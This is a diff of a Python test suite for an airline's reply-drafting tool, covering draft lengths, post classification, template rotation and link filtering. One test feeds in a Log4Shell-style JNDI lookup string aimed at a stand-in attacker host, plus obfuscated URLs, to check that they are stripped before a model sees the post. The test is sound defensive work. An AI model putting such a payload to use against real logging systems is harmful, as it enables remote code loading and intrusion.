@@ -1,6 +1,7 @@
 """Drafts: out of templates, approved facts and a first name, and out of nothing else."""
 
 import json
+import re
 from dataclasses import replace
 
 import pytest
@@ -24,10 +25,11 @@ from ascolta.core.draft import (
     signature,
 )
 from ascolta.core.drafting.asked import Asked, ModelError
-from ascolta.core.drafting.options import LENGTHS, options
+from ascolta.core.drafting.options import longest_on, options
 from ascolta.core.drafting.sound import against, prepare, talk_of
 from ascolta.core.drafting.template import read
 from ascolta.core.etiquette import Action, Decision
+from ascolta.core.length import length
 from ascolta.errors import CaseError
 from ascolta.files.drafts import load_voice
 from ascolta.files.templates import SHIPPED, shipped
@@ -75,6 +77,9 @@ def test_a_complaint_is_acknowledged_owned_and_led_on() -> None:
         ("intent:praise",),
         ("intent:other",),
         ("intent:banter",),
+        ("polarity:negative",),
+        ("polarity:negative", "intent:question", "topic:bags"),
+        ("complaint:yes", "intent:request"),
     ],
 )
 def test_every_language_has_three_answers_for_every_kind(lang: str, labels: tuple[str, ...]) -> None:
@@ -93,7 +98,7 @@ def test_drafts_fit_the_shortest_network(lang: str) -> None:
     for topic in ("bags", "refunds", "delays", "crew", "app"):
         made = draft(thread("complaint:yes", f"topic:{topic}", lang=lang, network="x"), VOICE, OCCASION)
         assert len(made.drafts) == 3
-        assert max(map(len, texts(made))) <= LENGTHS["x"]
+        assert all(length(said, "x") <= longest_on("x") for said in texts(made))
 
 
 def test_a_complaint_in_the_open_is_offered_help_without_intruding() -> None:
@@ -104,10 +109,10 @@ def test_a_complaint_in_the_open_is_offered_help_without_intruding() -> None:
 
 def test_thanks_are_answered_as_thanks() -> None:
     """Praise that thanks is welcomed; thanks that complain or sneer are not."""
-    assert thread("intent:praise", text="danke schön").kind is Kind.THANKS
-    assert thread("intent:other", text="Grazie mille!").kind is Kind.THANKS
-    assert thread("intent:praise", text="lovely crew").kind is Kind.PRAISE
-    assert thread("intent:other", "polarity:negative", text="thanks for nothing").kind is Kind.OTHER
+    assert thread("intent:praise", text="danke schön", lang="de").kind is Kind.THANKS
+    assert thread("intent:other", text="Grazie mille!", lang="it").kind is Kind.THANKS
+    assert thread("intent:praise", "polarity:positive", text="lovely crew").kind is Kind.PRAISE
+    assert thread("intent:other", "polarity:negative", text="thanks for nothing").kind is Kind.UNHAPPY
     assert thread("complaint:yes", text="thanks for nothing").kind is Kind.COMPLAINT
 
 
@@ -222,6 +227,83 @@ def test_an_answer_that_is_about_nothing_is_not_stated() -> None:
         assert all(one.facts == ("c",) for one in made.drafts)
 
 
+@pytest.mark.parametrize(
+    ("labels", "first", "second"),
+    [
+        (("complaint:yes", "intent:question", "polarity:neutral"), "question", "complaint"),
+        (("complaint:yes", "intent:request"), "request", "complaint"),
+        (("complaint:yes", "intent:question", "polarity:negative"), "complaint", "answer"),
+        (("intent:question", "polarity:negative"), "unhappy", "answer"),
+    ],
+)
+def test_what_is_asked_is_answered_in_any_case(labels: tuple[str, ...], first: str, second: str) -> None:
+    """Where a question seems to complain, too, it comes first; where it is negative, an alternative answers it."""
+    made = draft(thread(*labels, "topic:bags", text="what may I take?"), VOICE, OCCASION)
+    assert [one.template.partition("/")[2].partition("-")[0] for one in made.drafts][:2] == [first, second]
+    assert "cabin-bag" in made.drafts[["question", "request", "answer"].count(second)].facts
+
+
+def test_an_alternative_does_without_what_only_the_topic_calls_for() -> None:
+    """A topic may be mistaken, so the last draft neither states the fact nor makes the offer; a word is believed."""
+    for labels, lacks in (
+        (("intent:question", "topic:bags"), "cabin-bag"),
+        (("complaint:yes", "topic:bags"), "late-bag"),
+    ):
+        made = draft(thread(*labels), VOICE, OCCASION)
+        assert any(fact.startswith(lacks) for fact in made.drafts[0].facts)
+        assert not any(fact.startswith(lacks) for fact in made.drafts[2].facts)
+    told = draft(thread("intent:question", "topic:bags", text="my guitar?"), VOICE, OCCASION)
+    assert all(one.facts == ("cabin-bag",) for one in told.drafts)
+
+
+def test_a_topic_that_a_word_tells_comes_before_a_learned_one() -> None:
+    """Of two topics, the one of which a word stands in the post is answered first."""
+    other = replace(FACT, id="b", topics=("food",), say=(("en", "There is soup."),))
+    known = replace(voice(FACT, other, CHANNEL), topics=(("bags", ("bag*",)), ("food", ("soup",))))
+    made = draft(thread("intent:question", "topic:bags", "topic:food", text="is there soup?"), known, OCCASION)
+    assert made.drafts[0].facts == ("b",)
+
+
+@pytest.mark.parametrize(
+    ("lang", "text"),
+    [("en", "good morning!"), ("es", "buenos días!!"), ("pt", "bom dia!"), ("de", "Guten Morgen"), ("fr", "bonjour")],
+)
+def test_a_greeting_is_no_praise(lang: str, text: str) -> None:
+    """Who merely greets is greeted, whatever the labels say."""
+    assert thread("intent:praise", "polarity:positive", lang=lang, text=f"@acmeair {text}").kind is Kind.OTHER
+
+
+def test_lengths_are_those_of_the_network() -> None:
+    """A link counts 23 characters on X and an emoji two, whatever the network is called."""
+    link = replace(CHANNEL, link="https://a.example/" + "w" * 300)
+    for network in ("x", "X", "twitter"):
+        assert len(draft(thread("complaint:yes", network=network), voice(link), OCCASION).drafts) == 3
+        assert longest_on(network) == 280
+    wide = replace(CHANNEL, say=(("en", "🙂" * 110 + " {link}."),))
+    assert not draft(thread("complaint:yes", network="twitter"), voice(wide), OCCASION).drafts
+    assert (longest_on("bsky"), longest_on("facebook"), longest_on("blog")) == (300, 500, 500)
+
+
+def test_templates_that_were_offered_just_before_stand_back() -> None:
+    """Where posts are drafted for in a row, the best drafts take turns; one that alone fits is offered again."""
+    offered = tuple(one.template for one in draft(thread("complaint:yes"), VOICE, OCCASION).drafts[:1])
+    again = draft(thread("complaint:yes"), VOICE, replace(OCCASION, offered=offered))
+    assert again.drafts[0].template not in offered
+    assert texts(draft(thread("intent:other"), voice(templates=(ONE,)), replace(OCCASION, offered=("one",))))
+
+
+def test_a_model_sees_no_address() -> None:
+    """No link, however it is written, is in what a model is shown."""
+    post = "help ${jndi:ldap://evil.example/a} ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ evil.com/x"
+    post += " evil。com //evil.example my bag"
+
+    def looks(asked: Asked) -> bytes:
+        assert json.loads(asked.case)["post"] == "help my bag"
+        raise ModelError("seen")
+
+    assert draft(thread("complaint:yes", text=post), VOICE, OCCASION, looks).model == "seen"
+
+
 def test_several_answers_are_spread_over_the_alternatives() -> None:
     """Where two facts answer, the closest is in the best draft and the other in the next."""
     other = replace(FACT, id="b", say=(("en", "It is at the desk."),), words=("guitar*",))
@@ -239,7 +321,7 @@ def test_a_draft_that_is_too_long_loses_what_may_be_missing() -> None:
     """On a short network an offer is left out before the draft is; a draft that still is too long is none."""
     long = replace(FACT, id="r", use=Use.REPAIR, say=(("en", "We bring it. " * 15),))
     made = draft(thread("complaint:yes", "topic:bags", network="x"), voice(long, CHANNEL), OCCASION)
-    assert all("We bring it" not in said and len(said) <= 280 for said in texts(made))
+    assert all("We bring it" not in said and length(said, "x") <= 280 for said in texts(made))
     endless = replace(CHANNEL, say=(("en", "Write to us. " * 30 + "{link}."),))
     none = draft(thread("complaint:yes", network="x"), voice(endless), OCCASION)
     assert none.why == "every draft is longer than 280 characters; shorten facts and templates"
@@ -292,7 +374,7 @@ def test_laws_of_drafts(made: Thread, recent: tuple[str, ...], day: int) -> None
     holds = {fact.id: fact.holds(day) for fact in VOICE.facts.facts}
     for one in found.drafts:
         assert one.text == "".join(piece.text for piece in one.pieces)
-        assert len(one.text) <= LENGTHS.get(made.network, 500)
+        assert length(one.text, made.network) <= longest_on(made.network)
         assert one.text.endswith(" – Ruth")
         assert one.language == made.language
         assert all(holds[fact] for fact in one.facts)
@@ -305,6 +387,9 @@ def test_laws_of_drafts(made: Thread, recent: tuple[str, ...], day: int) -> None
     [
         ("see https://evil.example", "it holds '://'"),
         ("see evil.example", "it holds 'l.example'"),
+        ("see ｗｗｗ．evil", "it holds 'www.'"),
+        ("see ⁄⁄evil", "it holds '//'"),
+        ("see <b>this</b>", "it holds '<b'"),
         ("ask @ann", "it holds '@a'"),
         ("within 24 hours", "it holds '2'"),
         ("a {nmae}", "there is no slot '{nmae}'"),
@@ -370,14 +455,29 @@ def test_nothing_stands_against_the_shipped_templates(lang: str) -> None:
         "intent:suggestion",
         "intent:praise",
         "intent:x",
+        "polarity:negative",
     ):
         for topic in ("bags", "refunds", "delays", "crew", "app", "delivery"):
             made = thread(kind, f"topic:{topic}", lang=lang, name="Anna", text="@acmeair 🙂")
             talk = talk_of(made, VOICE, TODAY)
             for option in options(made, VOICE, OCCASION):
-                one = option.draft(option.closest(0), "Ruth", 500)
+                one = option.draft(option.closest(0), "Ruth", "blog")
                 assert one is not None
                 assert against(one.text, talk) == "", one.text
+
+
+_GRIEVANCE = re.compile(
+    r"\b(?:wait|espera|attent|attend|wart|atras|attes|aspett|wacht|late\b|retras|retard|ritard|kindness|amabil|aimabl"
+    r"|freundlich|simpat|gentil|vriendelijk)",
+    re.IGNORECASE,
+)
+
+
+def test_templates_of_a_topic_fit_any_complaint_of_it() -> None:
+    """None says that somebody waited or was met rudely: a post of that topic may complain of something else."""
+    of_topics = [one for one in shipped() if one.topics]
+    assert len(of_topics) >= 42
+    assert not [one.say for one in of_topics if _GRIEVANCE.search(one.say)]
 
 
 def test_shipped_templates_are_alike_in_all_languages() -> None:
